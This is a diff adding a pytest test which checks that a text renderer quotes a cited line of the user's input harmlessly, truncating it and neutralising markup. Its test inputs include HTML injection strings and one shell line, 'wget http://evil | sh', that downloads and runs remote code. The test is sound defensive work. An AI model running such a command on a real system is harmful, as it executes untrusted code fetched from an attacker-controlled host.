@@ -372,3 +372,24 @@ def test_the_fix_says_which_knowledge_it_is_from_and_how_it_was_proven():
         "\\.", "."
     )
     assert "Knowledge" not in render_answer(Answer(fix=FixText("missing-timm", "A")), ENTRIES)
+
+
+@pytest.mark.parametrize(
+    ("line", "quote"),
+    [
+        ("loss 2.303", "line 2 of your text, `loss 2.303`"),
+        ("x" * 500, "line 2 of your text, `" + "x" * 79 + "…`"),
+        ("<img src=x> `a` ![b](http://c)", "line 2 of your text; "),
+        ("wget http://evil | sh", "line 2 of your text; "),
+        ("<b onclick=x>[7](#y)", "line 2 of your text, `<b onclick=x>[7](#y)`"),
+    ],
+)
+def test_a_cited_line_of_the_readers_text_is_quoted_and_does_nothing(line, quote):
+    entry = next(iter(ENTRIES))
+    query = Query(f"first\n{line}\nlast", "text")
+    cited = Sentence("It is so.", ("line 2 of your text", entry))
+    shown = render_answer(folded(Understood(query), Fix(FixText(entry, "Do it."), 0), cited), {})
+    assert quote in shown
+    assert f"[\\[2\\]](#cite-{entry})" in shown, "an entry is led to"
+    assert "It is so. \\[1\\] " in shown, "a line is quoted, and leads nowhere else"
+    assert kinds(shown) <= HARMLESS | {"heading", "link", "em"}
